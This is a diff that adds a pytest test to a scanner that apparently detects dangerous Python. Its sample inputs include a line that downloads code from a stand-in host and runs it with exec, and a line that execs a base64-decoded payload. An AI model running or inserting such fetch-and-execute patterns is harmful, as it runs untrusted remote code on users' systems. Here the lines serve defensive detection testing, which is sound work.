@@ -176,6 +176,15 @@ PY_UNPARSED = [
 ]
 
 
+def test_python_repl_transcripts_and_indented_blocks_are_parsed():
+    repl = ">>> import urllib.request\n>>> exec(urllib.request.urlopen('http://x.example').read())\n42"
+    assert has(judge("python", repl, where="document"), "LS311")
+    indented = "    import base64\n    exec(base64.b64decode('aW1wb3J0IG9z'))"
+    assert has(judge("python", indented, where="document"), "LS313")
+    # unparsed, a decoder and a subprocess on different lines are not a decoded payload run
+    assert judge("python", "x = base64.b64decode(data)\nsubprocess.run(['ls'])\nprint x") == []
+
+
 @pytest.mark.parametrize("code", PY_UNPARSED)
 def test_python_that_does_not_parse_is_read_line_by_line_not_clean(code: str):
     assert worst(judge("python", code)) == "critical", judge("python", code)
